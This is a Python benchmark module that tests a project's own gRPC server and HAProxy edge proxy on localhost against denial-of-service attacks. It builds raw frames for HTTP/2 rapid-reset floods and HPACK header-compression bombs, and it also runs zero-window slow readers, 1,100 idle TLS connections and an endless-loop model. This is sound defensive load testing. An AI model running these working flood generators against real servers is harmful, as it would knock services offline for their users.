"""``bench_attack`` rows for issue 36 items 2 and 6: every call's hold bounded both ways, and the HTTP/2
floods held by the edge proxy (``deploy/proxy/haproxy.cfg``, the real HAProxy binary) in front of the server.

Rows:
- ``slow_reader``: one HTTP/2 connection that never opens its window (SETTINGS_INITIAL_WINDOW_SIZE 0, no
  WINDOW_UPDATE) keeps 34 Probe calls (token, 100 KB replies: admitted to the queue) outstanding, opening
  a new one for each that ends (every 0.5 s); straight to the server (its own defence: the reply read
  timeout and each address's share of the probe lane).
- ``endless_run``: an uploaded Loop (trip count 2^62), then back-to-back Infer calls with a 1-hour deadline
  from two addresses (127.0.0.2 and 127.0.0.3), one at a time each: the per-run limit (``--max-run-s``,
  derived: 2 s for this model) ends each run.
- ``rapid_reset_proxy``: HTTP/2 rapid reset (4 TLS connections opening Infer streams and resetting each at
  once, batches of 100) against the edge proxy, everyone (legit clients included) through it.
- ``hpack_bomb_proxy``: HPACK bombs (4 TLS connections; each stream's headers refer 4000 times to one
  4 KB header in the dynamic table: 16 MB decoded per 4 KB sent) against the edge proxy, everyone through it.
- ``hpack_bomb``: the same bombs straight to the server (plaintext), as issue 36 found them.
- ``idle_conns_proxy``: 1100 idle TLS HTTP/2 connections to the edge proxy (the server no longer sheds
  idle connections itself: connections are the proxy's; alone, it refuses new ones at gRPC core's cap).

The proxy rows start ``haproxy -db -f deploy/proxy/haproxy.cfg`` (skipped, with the reason in the row's
notes, when the binary is absent) with a throwaway certificate, the server with ``--trusted-proxy
127.0.0.1``; the legit clients reach the proxy over TLS (``bench_attack.TLS_ENV``).
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import os
import shutil
import socket
import ssl
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import grpc
import numpy as np
from bench_attack import (
    ATTACKER_IP,
    AUTH,
    SERVICE,
    TLS_ENV,
    Attack,
    Ctx,
    _channel,
    _infer,
    grpc_headers,
    infer_bytes,
    loop_model,
    upload,
)
from bench_attack import _code as code_of
from hpack import Encoder

from splitrt.transport import splitrt_pb2 as pb
from tests.rawh2 import (
    INITIAL_WINDOW_SIZE,
    PREFACE,
    data_frame,
    ended_streams,
    frames,
    grpc_fields,
    grpc_message,
    headers_frame,
    rst_stream_frame,
    settings_frame,
    with_stream_id,
)
from tests.relay import SourceRelay

ROOT = Path(__file__).resolve().parents[1]
HAPROXY_CFG = ROOT / "deploy" / "proxy" / "haproxy.cfg"


@functools.lru_cache(maxsize=16)
def bomb_blocks(path: str, authority: str, refs: int = 4000) -> tuple[bytes, bytes]:
    """A connection's first header block and its next ones, made by one HPACK encoder: the gRPC request's
    fields (never indexed), then ``refs`` times one 4000-byte header. The first block adds that header to
    the dynamic table (literal with incremental indexing) and refers to it ``refs`` times (one byte each:
    index 62, the newest dynamic entry); the next ones only refer to it."""
    encoder, bomb = Encoder(), ("x-bomb", "b" * 4000)
    first = encoder.encode([*grpc_fields(path, authority), *[bomb] * (refs + 1)], huffman=False)
    return first, encoder.encode([*grpc_fields(path, authority), *[bomb] * refs], huffman=False)


class _Conn:
    """One raw HTTP/2 connection from ``source``, plain or TLS (ALPN h2), that answers nothing and drains
    what it is sent; ``send`` raises OSError once the peer has closed."""

    def __init__(self, address: str, source: str, ca: Path | None, settings: dict[int, int] | None = None) -> None:
        host, port = address.rsplit(":", 1)
        self.goaway = False
        self.ended: set[int] = set()  # streams the peer finished (trailers) or reset
        self._buf = b""
        sock = socket.socket()
        if ca is not None:
            # Wrapped before it connects: a socket wrapped after can be orphaned by ssl when the peer has
            # already reset it (its descriptor then closed by the garbage collector, with a ResourceWarning).
            ctx = ssl.create_default_context(cafile=str(ca))
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost", do_handshake_on_connect=False)
        self.sock = sock
        try:
            sock.settimeout(5.0)
            sock.bind((source, 0))
            sock.connect((host, int(port)))
            if isinstance(sock, ssl.SSLSocket):
                sock.do_handshake()
            sock.sendall(PREFACE + settings_frame(settings) + settings_frame(ack=True))
        except BaseException:  # refused: never leave the socket to the garbage collector
            sock.close()
            raise

    def send(self, data: bytes) -> None:
        self.sock.settimeout(5.0)
        self.sock.sendall(data)
        self.drain()

    def drain(self) -> None:
        """Read what is there (no wait): GOAWAY, ended streams."""
        self.sock.settimeout(0.0)
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    raise ConnectionResetError("closed by the peer")
                self._buf += data
        except (BlockingIOError, ssl.SSLWantReadError, TimeoutError):
            pass
        parsed, self._buf = frames(self._buf)
        ended, goaway = ended_streams(parsed)
        self.ended |= ended
        self.goaway = self.goaway or goaway

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


class Frames(Attack):
    """``conns`` connections from ATTACKER_IP, each sending ``batch(conn, stream_id) -> (bytes, next id)``
    as fast as it can; a connection the peer ends is opened again (counted by how it ended)."""

    def __init__(
        self, name: str, what: str, conns: int, batch: Callable[[str, int], tuple[bytes, int]], proxy_row: str = ""
    ) -> None:
        super().__init__()
        self.name, self.what, self.conns, self.batch = name, what, conns, batch
        self.proxy_row = proxy_row
        self.sent_bytes = 0
        self.streams = 0
        self.ended: Counter[str] = Counter()
        self.lock = threading.Lock()

    def target(self, ctx: Ctx) -> tuple[str, Path | None]:
        return ctx.server_address, None

    def arm(self, ctx: Ctx) -> None:
        address, ca = self.target(ctx)

        def one() -> str:
            try:
                conn = _Conn(address, ATTACKER_IP, ca)
            except (OSError, ssl.SSLError):
                self.stop_ev.wait(0.05)  # refused: not in a tight loop
                return "refused"
            sid = 1
            try:
                while not self.stop_ev.is_set() and sid < 2**31 - 10_000:
                    data, after = self.batch(address, sid)
                    conn.send(data)
                    with self.lock:
                        self.sent_bytes += len(data)
                        self.streams += (after - sid) // 2
                    sid = after
                    if conn.goaway:
                        return "goaway"
            except (OSError, ssl.SSLError):
                return "closed"
            finally:
                conn.close()
            return "stopped"

        def keep() -> None:
            while not self.stop_ev.is_set():
                how = one()
                with self.lock:
                    self.ended[how] += 1

        self.spawn(keep, self.conns)

    def disarm(self) -> None:
        self.notes.setdefault("sent_mb", round(self.sent_bytes / 2**20, 1))
        self.notes.setdefault("streams", self.streams)
        self.notes.setdefault("connections_ended", dict(self.ended))


def rapid_reset_batch(address: str, sid: int, n: int = 100) -> tuple[bytes, int]:
    headers, reset = _reset_pair(address)
    out = []
    for _ in range(n):
        out.append(with_stream_id(headers, sid))  # END_HEADERS
        out.append(with_stream_id(reset, sid))  # CANCEL
        sid += 2
    return b"".join(out), sid


@functools.lru_cache(maxsize=16)
def _reset_pair(address: str) -> tuple[bytes, bytes]:
    """One HEADERS and one RST_STREAM frame made by hyperframe, sent on every stream with its id written in."""
    return headers_frame(1, grpc_headers(f"{SERVICE}/Infer", address)), rst_stream_frame(1)


def hpack_bomb_batch(address: str, sid: int, n: int = 4) -> tuple[bytes, int]:
    """``n`` streams; the first of a connection (stream 1) inserts the header the others refer to."""
    out = []
    for _ in range(n):
        first, next_ = bomb_blocks(f"{SERVICE}/Infer", address)
        out.append(headers_frame(sid, first if sid == 1 else next_, end_stream=True))
        sid += 2
    return b"".join(out), sid


class EdgeProxy:
    """``haproxy -db -f deploy/proxy/haproxy.cfg`` in front of ``backend``, with a throwaway certificate."""

    def __init__(self, backend: str, workdir: Path) -> None:
        haproxy, openssl = shutil.which("haproxy"), shutil.which("openssl")
        if haproxy is None or openssl is None:
            raise SystemExit("the proxy rows need the haproxy and openssl binaries (apt-get install -y haproxy)")
        workdir.mkdir(parents=True, exist_ok=True)
        key, self.ca = workdir / "tls.key", workdir / "tls.crt"
        subprocess.run(
            [
                *(openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(self.ca)),
                *("-days", "1", "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"),
            ],
            check=True,
            capture_output=True,
            timeout=60,
        )
        pem = workdir / "proxy.pem"
        pem.write_bytes(self.ca.read_bytes() + key.read_bytes())
        pem.chmod(0o600)
        ports = []
        for _ in range(2):
            with socket.socket() as s:
                s.bind(("127.0.0.1", 0))
                ports.append(s.getsockname()[1])
        self.address = f"127.0.0.1:{ports[0]}"
        env = {
            **os.environ,
            "SPLITRT_PROXY_BIND": self.address,
            "SPLITRT_PROXY_CERT": str(pem),
            "SPLITRT_BACKEND": backend,
            "SPLITRT_PROXY_STATS": f"127.0.0.1:{ports[1]}",
        }
        self.log = workdir / "haproxy.log"
        with open(self.log, "wb") as out:
            self.proc = subprocess.Popen([haproxy, "-db", "-f", str(HAPROXY_CFG)], env=env, stdout=out, stderr=out)
        for _ in range(600):
            if self.proc.poll() is not None:
                raise SystemExit(f"haproxy exited with {self.proc.returncode}: {self.log.read_text()[-2000:]}")
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", ports[0])) == 0:
                    return
            time.sleep(0.05)
        raise SystemExit("haproxy did not listen within 30 s")

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


class ThroughProxy(Frames):
    """A ``Frames`` attack on the edge proxy, with everyone (the legit clients too) going through it."""

    serve_args = ("--trusted-proxy", "127.0.0.1")

    def __init__(self, name: str, what: str, conns: int, batch: Callable[[str, int], tuple[bytes, int]]) -> None:
        super().__init__(name, what, conns, batch)
        self.edge: EdgeProxy | None = None

    def front(self, server_address: str, workdir: Path) -> str:
        self.edge = EdgeProxy(server_address, workdir / "edge")
        os.environ[TLS_ENV] = f"{self.edge.address}={self.edge.ca}"
        return self.edge.address

    def target(self, ctx: Ctx) -> tuple[str, Path | None]:
        assert self.edge is not None
        return self.edge.address, self.edge.ca

    def close_front(self) -> None:
        os.environ.pop(TLS_ENV, None)
        if self.edge is not None:
            self.edge.close()
            self.edge = None


class IdleConnsProxy(ThroughProxy):
    """``n`` idle TLS HTTP/2 connections (handshake, preface, SETTINGS, then nothing) to the edge proxy;
    what it drops is opened again every 0.5 s (at most 2 s of connecting per round)."""

    def __init__(self, n: int = 1100) -> None:
        super().__init__(
            "idle_conns_proxy", f"{n} idle TLS HTTP/2 connections via the edge proxy", 1, rapid_reset_batch
        )
        self.n = n
        self.held: list[_Conn] = []
        self.refused = 0
        self.dropped = 0

    def arm(self, ctx: Ctx) -> None:
        address, ca = self.target(ctx)

        def keep() -> None:
            while not self.stop_ev.is_set():
                end = time.monotonic() + 2.0
                while len(self.held) < self.n and time.monotonic() < end and not self.stop_ev.is_set():
                    try:
                        self.held.append(_Conn(address, ATTACKER_IP, ca))
                    except (OSError, ssl.SSLError):
                        self.refused += 1
                for conn in list(self.held):
                    try:
                        conn.drain()
                    except (OSError, ssl.SSLError):
                        conn.close()
                        self.held.remove(conn)
                        self.dropped += 1
                self.stop_ev.wait(0.5)

        self.spawn(keep)

    def disarm(self) -> None:
        self.notes.setdefault("held_at_stop", len(self.held))
        self.notes.setdefault("refused", self.refused)
        self.notes.setdefault("dropped_by_proxy", self.dropped)
        for conn in self.held:
            conn.close()
        self.held = []


class SlowReader(Attack):
    name = "slow_reader"

    def __init__(self, calls: int = 34, reply_bytes: int = 100_000) -> None:
        super().__init__()
        self.calls, self.reply = calls, reply_bytes
        self.what = f"1 connection, window 0, {calls} Probe calls ({reply_bytes // 1000} KB replies, token)"
        self.opened = 0
        self.ended = 0

    def arm(self, ctx: Ctx) -> None:
        body = pb.ProbeRequest(reply_bytes=self.reply).SerializeToString()
        message = grpc_message(body)
        token = AUTH[0][1]

        def call(conn: _Conn, sid: int) -> bytes:
            block = grpc_headers(f"{SERVICE}/Probe", ctx.server_address, (("authorization", token),))
            return headers_frame(sid, block) + data_frame(sid, message, end_stream=True)

        def keep() -> None:
            while not self.stop_ev.is_set():
                try:
                    conn = _Conn(ctx.server_address, ATTACKER_IP, None, settings={INITIAL_WINDOW_SIZE: 0})
                except OSError:
                    self.stop_ev.wait(0.5)
                    continue
                sid, open_ = 1, set[int]()
                try:
                    while not self.stop_ev.is_set() and not conn.goaway:
                        fresh = b""
                        while len(open_) < self.calls:
                            fresh += call(conn, sid)
                            open_.add(sid)
                            sid += 2
                            self.opened += 1
                        if fresh:
                            conn.send(fresh)
                        self.stop_ev.wait(0.5)
                        conn.drain()
                        self.ended += len(open_ & conn.ended)
                        open_ -= conn.ended
                except OSError:
                    pass
                finally:
                    conn.close()

        self.spawn(keep)

    def disarm(self) -> None:
        self.notes.setdefault("probes_opened", self.opened)
        self.notes.setdefault("probes_ended_by_server", self.ended)


class EndlessRun(Attack):
    name = "endless_run"
    what = "uploaded Loop (2^62 trips), Infer with a 1-hour deadline from 2 addresses"

    def __init__(self) -> None:
        super().__init__()
        self.data = b""
        self.codes: Counter[str] = Counter()
        self.ms: list[float] = []
        self.lock = threading.Lock()
        self.relay: SourceRelay | None = None

    def build(self) -> None:
        if not self.data:
            self.data = loop_model()

    def arm(self, ctx: Ctx) -> None:
        self.build()
        self.relay = SourceRelay(ctx.server_address, "127.0.0.3")
        sha = hashlib.sha256(self.data).hexdigest()
        req = infer_bytes(sha, "cloud", {"x": np.ones(1, np.float32)})
        ready = threading.Event()

        def run(address: str, first: bool) -> None:
            if first:
                self.notes.setdefault("upload", upload(address, self.data, "endless.onnx", timeout_s=60.0))
                ready.set()
            elif not ready.wait(90):
                return
            with _channel(address) as ch:
                while not self.stop_ev.is_set():
                    t0 = time.monotonic()
                    try:
                        _infer(ch)(req, timeout=3600, metadata=AUTH)
                        code = "OK"
                    except grpc.RpcError as exc:
                        code = code_of(exc)
                    with self.lock:
                        self.codes[code] += 1
                        self.ms.append((time.monotonic() - t0) * 1e3)

        relay = self.relay
        self.spawn(lambda: run(ctx.address, True))
        self.spawn(lambda: run(relay.address, False))

    def disarm(self) -> None:
        self.notes.setdefault("infer_codes", dict(self.codes))
        if self.ms:
            self.notes.setdefault("attack_call_max_s", round(max(self.ms) / 1e3, 1))
        if self.relay is not None:
            self.relay.close()
            self.relay = None


def proxy_attacks() -> list[Attack]:
    return [
        SlowReader(),
        EndlessRun(),
        ThroughProxy("rapid_reset_proxy", "HTTP/2 rapid reset via the edge proxy (4 TLS conns)", 4, rapid_reset_batch),
        ThroughProxy("hpack_bomb_proxy", "HPACK bombs via the edge proxy (4 TLS conns)", 4, hpack_bomb_batch),
        IdleConnsProxy(),
        Frames(
            "hpack_bomb",
            "HPACK bombs straight to the server (4 conns, no token)",
            4,
            hpack_bomb_batch,
            "hpack_bomb_proxy",
        ),
    ]
